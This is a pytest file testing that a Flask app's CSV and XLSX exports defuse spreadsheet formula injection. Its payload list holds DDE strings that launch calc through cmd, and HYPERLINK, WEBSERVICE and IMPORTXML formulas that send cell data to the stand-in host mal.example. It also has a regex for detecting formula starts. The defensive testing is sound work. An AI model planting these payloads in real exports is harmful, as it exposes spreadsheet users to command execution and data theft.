"""D5: whatever somebody typed, a spreadsheet that opens the list runs nothing."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from flask import Flask

from app.sheets import KINDS, neutral, send

PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://mal.example?x=\"&A1,\"cliquer\")",
    "=WEBSERVICE(\"http://mal.example\")",
    "=IMPORTXML(CONCAT(\"http://mal.example/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "--1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0=1+1",
    "\u202f=1+1",
    "\u3000=1+1",
    "'=1+1",
    "\"=1+1",
    "=1+1\";=2+2;\"",
    "x\n=1+1",
    "x\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "%0A=1+1",
    "|calc",
    "\x00=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    ";=1+1",
    "=\u0000cmd",
]  # fmt: skip
LIVE = re.compile(r"^[\s'\"\u200b\ufeff]*[=+\-@|%\t\r\n＝＋－＠]")


def test_there_are_thirty_payloads_and_more() -> None:
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
@pytest.mark.parametrize("kind", KINDS)
def test_no_cell_can_run(app: Flask, kind: str, payload: str) -> None:
    with app.test_request_context():
        body = send(kind, "liste", {"Nom": lambda row: row, "Suite": lambda _: "x"}, [payload]).get_data()
    (cell, after) = CELLS[kind](body)
    assert after == "x"
    assert not starts_a_formula(cell)


@pytest.mark.parametrize("value", ["Dupont", "D’Artagnan-Œil", "a=b", "12", "Hôpital + site", ""])
def test_an_ordinary_text_stays_itself(value: str) -> None:
    assert neutral(value) == value


def test_an_excel_sheet_holds_texts_only(app: Flask) -> None:
    with app.test_request_context():
        body = send("xlsx", "liste", {"Nom": lambda row: row}, PAYLOADS).get_data()
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet
    assert not re.search(r'<c (?![^>]*t="inlineStr")[^>]*>', sheet)
    assert [name for name in names if "external" in name or "vba" in name.lower()] == []


def starts_a_formula(cell: str) -> bool:
    """An apostrophe in front says « text »; without it, nothing in the cell may begin like a formula."""
    return any(LIVE.match(line) for line in re.split(r"[\r\n]", cell)) and not cell.startswith("'")


def _csv(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 2
    return rows[1]


def _xlsx(body: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    texts = re.findall(r"<t[^>]*>(.*?)</t>", sheet, re.S)
    return [_unescaped(text) for text in texts if text not in ("Nom", "Suite")]


def _unescaped(text: str) -> str:
    for written, meant in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&amp;", "&")):
        text = text.replace(written, meant)
    return text


CELLS = {"csv": _csv, "xlsx": _xlsx}
